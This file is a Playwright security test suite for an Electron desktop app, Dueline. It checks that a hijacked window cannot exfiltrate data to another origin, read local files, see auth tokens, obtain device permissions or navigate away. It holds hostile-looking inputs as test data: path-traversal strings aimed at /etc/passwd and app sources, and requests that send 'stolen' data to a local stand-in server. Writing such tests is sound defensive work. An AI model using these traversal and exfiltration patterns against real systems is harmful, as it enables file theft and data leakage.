import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect } from '@playwright/test';
import { hostile } from '../fixtures/hostile-urls.ts';
import { test } from './launch.ts';
import { runtime } from './runtime.ts';

/* Somebody else's script runs in the window: what is evaluated here is what it would do. */

const small = ['--sample', '5,5'];

/** A server that must never be asked, and counts how often it was. */
async function stranger(): Promise<{ readonly url: string; readonly asked: string[]; readonly server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('stranger');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

test.describe('a window that was taken over', () => {
  test('reaches no other origin, by whatever means a page has', async ({ launch }) => {
    const { window: page } = await launch({ args: small });
    const { url, asked, server } = await stranger();
    const reached = await page.evaluate(async (target) => {
      const socket = target.replace('http', 'ws');
      const settled = async (work: () => Promise<unknown>) => {
        try {
          await work();
          return 'reached';
        } catch {
          return 'refused';
        }
      };
      const loaded = (element: HTMLElement) =>
        new Promise<unknown>((resolve, reject) => {
          element.addEventListener('load', resolve);
          element.addEventListener('error', reject);
          document.addEventListener('securitypolicyviolation', reject);
          document.body.append(element);
        });
      const made = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) =>
        Object.assign(document.createElement(name), fields);
      return {
        fetch: await settled(() => fetch(`${target}/fetch`)),
        blind: await settled(() => fetch(`${target}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'stolen' })),
        request: await settled(
          () =>
            new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.open('GET', `${target}/xhr`);
              request.onload = resolve;
              request.onerror = reject;
              request.send();
            }),
        ),
        socket: await settled(
          () =>
            new Promise((resolve, reject) => {
              const opened = new WebSocket(`${socket}/socket`);
              opened.onopen = resolve;
              opened.onerror = reject;
            }),
        ),
        events: await settled(
          () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(`${target}/events`);
              source.onopen = resolve;
              source.onerror = reject;
            }),
        ),
        image: await settled(() => loaded(made('img', { src: `${target}/image?stolen` }))),
        style: await settled(() => loaded(made('link', { rel: 'stylesheet', href: `${target}/style` }))),
        frame: await settled(() => loaded(made('iframe', { src: `${target}/frame` }))),
        object: await settled(() => loaded(made('object', { data: `${target}/object` }))),
        video: await settled(() => loaded(made('video', { src: `${target}/video` }))),
        prefetch: await settled(() => loaded(made('link', { rel: 'prefetch', href: `${target}/prefetch` }))),
        module: await settled(() => import(/* @vite-ignore */ `${target}/module.js`)),
        font: await settled(() => new FontFace('x', `url(${target}/font)`).load()),
        worker: await settled(async () => new Worker(`${target}/worker.js`)),
        ownWorker: await settled(async () => new Worker('/assets/none.js')),
        service: await settled(() => navigator.serviceWorker.register('/assets/none.js')),
        beacon: navigator.sendBeacon(`${target}/beacon`, 'stolen') ? 'queued' : 'refused',
      };
    }, url);
    const { beacon, ...others } = reached;
    expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    // A beacon is queued before it is refused. A form is the last way out.
    expect(['queued', 'refused']).toContain(beacon);
    const refusedBy = await page.evaluate(
      (target) =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
          const form = Object.assign(document.createElement('form'), { action: `${target}/form`, method: 'post' });
          document.body.append(form);
          form.submit();
        }),
      url,
    );
    expect(refusedBy).toBe('form-action');
    expect(asked).toEqual([]);
    server.close();
  });

  test('is held by the network guard too where its policy is switched off', async ({ launch }) => {
    test.skip(runtime.kind === 'electron', 'The policy of a page can be switched off on the stand-in only.');
    const { app, window: page } = await launch({ args: small });
    const { url, asked, server } = await stranger();
    const session = await page.context().newCDPSession(page);
    await session.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    await app.evaluate(() => undefined);
    const reached = await page.evaluate(async (target) => {
      const outcome = (work: Promise<unknown>) =>
        work.then(
          () => 'reached',
          () => 'refused',
        );
      return [
        await outcome(fetch(`${target}/fetch`)),
        await outcome(fetch('https://example.com/')),
        await outcome(fetch(`${target}/blind`, { mode: 'no-cors' })),
      ];
    }, url);
    expect(reached).toEqual(['refused', 'refused', 'refused']);
    expect(asked).toEqual([]);
    server.close();
  });

  test('reads no file, by the app’s own scheme or by another', async ({ launch, folder }) => {
    const { window: page, profile } = await launch({ args: small });
    const secret = path.join(folder, 'secret.txt');
    writeFileSync(secret, 'a secret of this computer');
    const targets = [
      pathToFileURL(secret).href,
      pathToFileURL(path.join(profile, 'data', 'dueline.db')).href,
      'file:///etc/passwd',
      '/../../../../../../etc/passwd',
      '/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd',
      '/..%5c..%5cpackage.json',
      '/../main/main.js',
      '/%2e%2e/main/main.js',
      '/../preload/preload.cjs',
      '/assets/../../main/main.js',
    ];
    const read = await page.evaluate(
      (urls) =>
        Promise.all(
          urls.map((url) =>
            fetch(url).then(
              async (answer) => (answer.ok ? await answer.text() : `refused ${answer.status}`),
              () => 'refused',
            ),
          ),
        ),
      targets,
    );
    expect(read.filter((text) => !text.startsWith('refused'))).toEqual([]);
    const opened = await page.evaluate(async () => {
      const picker = (window as { showOpenFilePicker?: () => Promise<unknown> }).showOpenFilePicker;
      const root = await navigator.storage.getDirectory().then(
        (directory) => directory.kind,
        () => 'refused',
      );
      return { picker: picker === undefined ? 'none' : await picker().catch(() => 'refused'), root };
    });
    // A folder of the page's own is no folder of the computer's.
    expect(opened).toMatchObject({ picker: 'refused' });
  });

  test('sees no token: not in what it is told, in what it stores, nor in any answer', async ({ launch }) => {
    const dueline = await launch({ args: small });
    const { window: page } = dueline;
    await dueline.backendPid();
    const seen = await page.evaluate(async () => {
      const told = [
        await window.desktop.call('app:info', undefined),
        await window.desktop.call('backend:state', undefined),
        await window.desktop.call('settings:read', undefined),
        await window.desktop.call('journal:read', undefined),
      ];
      const answer = await fetch('/api/sync/me', { headers: { authorization: 'Bearer mine' } });
      return {
        told: JSON.stringify(told),
        status: answer.status,
        headers: [...answer.headers].map(([name]) => name),
        body: await answer.text(),
        stored: JSON.stringify({ ...localStorage }) + document.cookie,
      };
    });
    // Its own header is put aside: main acts as the agent, and as nobody else.
    expect(seen.status).toBe(200);
    expect(seen.headers).not.toContain('authorization');
    const all = seen.told + seen.body + seen.stored;
    expect(all).not.toMatch(/bearer|authorization/i);
    // The run's token is 32 random bytes in base64url; nothing here looks like it.
    expect(all.match(/[A-Za-z0-9_-]{43}/g)).toBeNull();
  });

  test('asks the backend only what the window asks it', async ({ launch }) => {
    const dueline = await launch({ args: small });
    await dueline.backendPid();
    const wanted = hostile('app path').filter(({ url }) => url.startsWith('app://dueline/api'));
    const answers = await dueline.window.evaluate(
      (entries) =>
        Promise.all(
          entries.map(({ url, method }) =>
            fetch(url.replace('app://dueline', ''), { method }).then(
              ({ status }) => status,
              () => 0,
            ),
          ),
        ),
      wanted,
    );
    expect(wanted.length).toBeGreaterThan(15);
    expect(wanted.filter((_, index) => answers[index] !== 404 && answers[index] !== 0)).toEqual([]);
  });

  test('is given nothing that it asks the system for', async ({ launch }) => {
    const { window: page } = await launch({ args: small });
    const answers = await page.evaluate(async () => {
      const refused = (work: Promise<unknown>) =>
        work.then(
          () => 'granted',
          () => 'refused',
        );
      const state = (name: string) =>
        navigator.permissions.query({ name: name as PermissionName }).then(
          (status) => status.state,
          () => 'denied',
        );
      return {
        camera: await refused(navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
        place: await refused(
          new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
        ),
        clipboard: await refused(navigator.clipboard.readText()),
        midi: await refused(navigator.requestMIDIAccess()),
        notification: (await Notification.requestPermission()) === 'granted' ? 'granted' : 'refused',
        states: await Promise.all(['camera', 'microphone', 'geolocation', 'clipboard-read', 'midi'].map(state)),
      };
    });
    const { states, ...others } = answers;
    expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    expect(states).not.toContain('granted');
  });

  test('goes nowhere and opens nothing', async ({ launch }) => {
    const { app, window: page } = await launch({ args: small });
    const before = page.url();
    // Those that a browser itself takes for a move of this page.
    const targets = hostile('navigation').filter(({ url }) => /^(https?|file|data|blob|chrome|ftp):/i.test(url));
    expect(targets.length).toBeGreaterThan(10);
    for (const { url } of targets) {
      await page.evaluate((target) => {
        location.href = target;
        window.open(target);
      }, url);
    }
    await expect(page).toHaveTitle('Dueline');
    await expect.poll(() => app.windows().length).toBe(1);
    expect(page.url()).toBe(before);
  });

  test('leads to a site or a mail only when the agent says so', async ({ launch }) => {
    test.skip(runtime.kind === 'electron', 'Only the stand-in tells what the system would have opened.');
    const { app, window: page } = await launch({ args: small });
    const seen = () =>
      app.evaluate(() => {
        const { opened, dialogs } = (globalThis as unknown as { electronStandIn: Seen }).electronStandIn;
        return { opened, asked: dialogs.map(({ message, detail }) => `${message} ${detail}`) };
      });
    interface Seen {
      readonly opened: readonly string[];
      readonly answers: number[];
      readonly dialogs: readonly { readonly message: string; readonly detail: string }[];
    }
    await page.evaluate(() => void window.open('https://example.com/help'));
    await expect.poll(async () => (await seen()).asked.length).toBe(1);
    expect(await seen()).toEqual({
      opened: [],
      asked: ['Open example.com in your browser? https://example.com/help'],
    });
    await app.evaluate(() => {
      (globalThis as unknown as { electronStandIn: Seen }).electronStandIn.answers.push(0);
    });
    await page.evaluate(() => void window.open('mailto:help@example.com?subject=x'));
    await expect.poll(async () => (await seen()).opened).toEqual(['mailto:help@example.com?subject=x']);
    for (const { url } of hostile('external link').slice(0, 12)) {
      await page.evaluate((target) => {
        try {
          window.open(target);
        } catch {
          // What is no address is refused by the browser itself.
        }
      }, url);
    }
    await expect(page).toHaveTitle('Dueline');
    expect((await seen()).opened).toHaveLength(1);
  });
});

test('a page is not led elsewhere by a redirect', async ({ launch }) => {
  const { app } = await launch({ args: small });
  const { url, asked, server: target } = await stranger();
  const server = createServer((_request, response) => response.writeHead(302, { location: `${url}/landed` }).end());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const from = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const outcome = await app.evaluate(async ({ BrowserWindow, session }, start) => {
    // The guards of requests would end it before; here they are put aside.
    session.defaultSession.webRequest.onBeforeRequest(null);
    await session.defaultSession.setProxy({ mode: 'direct' });
    const window = new BrowserWindow({ show: false });
    const redirects: string[] = [];
    window.webContents.on('will-redirect', (event) => redirects.push(event.url));
    const loaded = await window.loadURL(start).then(
      () => 'loaded',
      () => 'refused',
    );
    window.destroy();
    return { loaded, redirects };
  }, from);
  expect(outcome).toEqual({ loaded: 'refused', redirects: [`${url}/landed`] });
  expect(asked).toEqual([]);
  server.close();
  target.close();
});
